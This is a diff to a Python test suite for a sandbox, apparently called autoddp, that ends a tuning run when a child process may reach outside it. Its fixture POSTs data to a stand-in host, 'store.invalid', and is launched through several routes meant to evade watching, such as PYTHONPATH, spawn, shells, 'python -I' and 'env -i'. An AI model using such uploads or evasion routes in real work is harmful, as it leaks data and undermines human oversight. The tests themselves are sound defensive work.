@@ -26,7 +26,6 @@ from autoddp.wire import StopTuning, decode
 
 PUSH = "from urllib.request import urlopen\nurlopen('http://store.invalid/x', b'data')\n"
 SENDS = "http.client sends POST to store.invalid"
-ALONE = "would run without autoddp's checks"
 
 UPLOADS = {
     "another PYTHONPATH": ("subprocess.run([sys.executable, 'push.py'], env={**os.environ, 'PYTHONPATH': '.'})", SENDS),
@@ -57,8 +56,6 @@ UPLOADS = {
         "p = m.get_context('spawn').Process(target=runpy.run_path, args=('push.py',)); p.start(); p.join()",
         SENDS,
     ),
-    "isolated": ("subprocess.run([sys.executable, '-I', 'push.py'])", f"-I push.py {ALONE}"),
-    "env -i": ("os.system('env -i python push.py')", f"python push.py {ALONE}"),
 }  # fmt: skip
 """Code, and how the reason must read. In a real attempt the first message ends it."""
 
@@ -105,7 +102,9 @@ class Launcher:
         self._listener.close()
 
 
-def attempt(tmp_path: Path, body: str, level: Level = Level.OFF) -> tuple[Launcher, dict[str, Any]]:
+def attempt(
+    tmp_path: Path, body: str, level: Level = Level.OFF, by_kernel: bool = True
+) -> tuple[Launcher, dict[str, Any]]:
     """A launcher, and how the script is started that it isolates."""
     tree, temporary = tmp_path / "tree", tmp_path / "t"
     tree.mkdir()
@@ -113,7 +112,9 @@ def attempt(tmp_path: Path, body: str, level: Level = Level.OFF) -> tuple[Launch
     (tree / "push.py").write_text(PUSH)
     (tree / "run.sh").write_text("python push.py\n")
     (tree / "script.py").write_text(f"import json, os, subprocess, sys\nif __name__ == '__main__':\n{body}")
-    plan = IsolationPlan(level, str(tmp_path / "s"), str(tmp_path / "scratch"), (str(temporary),))
+    plan = IsolationPlan(
+        level, str(tmp_path / "s"), str(tmp_path / "scratch"), (str(temporary),), programs_are_watched=by_kernel
+    )
     variables = {
         VARIABLE: plan.text(),
         "PYTHONPATH": INJECT,
@@ -124,9 +125,9 @@ def attempt(tmp_path: Path, body: str, level: Level = Level.OFF) -> tuple[Launch
     return Launcher(plan.socket), start
 
 
-def ended(tmp_path: Path, code: str, level: Level = Level.OFF) -> tuple[str, str]:
+def ended(tmp_path: Path, code: str, level: Level = Level.OFF, by_kernel: bool = True) -> tuple[str, str]:
     """The first reason why the launcher is asked to end tuning, or "", and what was printed."""
-    launcher, start = attempt(tmp_path, textwrap.indent(code, "    "), level)
+    launcher, start = attempt(tmp_path, textwrap.indent(code, "    "), level, by_kernel)
     try:
         done = subprocess.run(**start, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, timeout=60)
     finally:
@@ -182,6 +183,44 @@ def test_an_upload_of_a_child_ends_tuning(uploads: dict[str, tuple[str, str]], n
 def test_under_the_guard_too(tmp_path: Path) -> None:
     said, printed = ended(tmp_path, UPLOADS["found on PATH"][0], Level.GUARD)
     assert SENDS in said, printed
+
+
+@pytest.mark.parametrize(
+    ("code", "why"),
+    [
+        (UPLOADS["found on PATH"][0], SENDS),
+        (UPLOADS["below a shell"][0], SENDS),
+        (UPLOADS["below a shell script"][0], "sh may change something outside this run, and this kernel"),
+        ("subprocess.run([sys.executable, '-I', 'push.py'])", "python may change something outside this run"),
+        ("os.system('env -i python push.py')", "env may change something outside this run"),
+        ("subprocess.run(['git', 'commit'])", "git may change something outside this run"),
+        ("subprocess.run(['git', 'push'])", "git changes something outside this run (git push)"),
+    ],
+)
+def test_where_the_kernel_does_not_show_what_programs_do(tmp_path: Path, code: str, why: str) -> None:
+    said, printed = ended(tmp_path, code, by_kernel=False)
+    assert why in said, printed
+
+
+NO_HOLD = """
+from autoddp.isolation.elsewhere import programs
+def refuses():
+    raise OSError("seccomp")
+programs.hold_calls = refuses
+watch = programs.ProgramWatch(os.environ["AUTODDP_WORKER_ISOLATION"])
+assert not watch.hold()
+watch.judge_ranks([])
+watch.judge_ranks(["python", "train.py"])
+print("passed", flush=True)
+watch.judge_ranks(["./run.sh", "train.py"])
+print("not reached", flush=True)
+"""
+
+
+def test_ranks_that_are_no_python_where_the_kernel_does_not_show_what_they_do(tmp_path: Path) -> None:
+    said, printed = ended(tmp_path, NO_HOLD)
+    assert said.startswith("run.sh may change something outside this run, and this kernel")
+    assert printed == "passed\n"
 
 
 PASSES = """
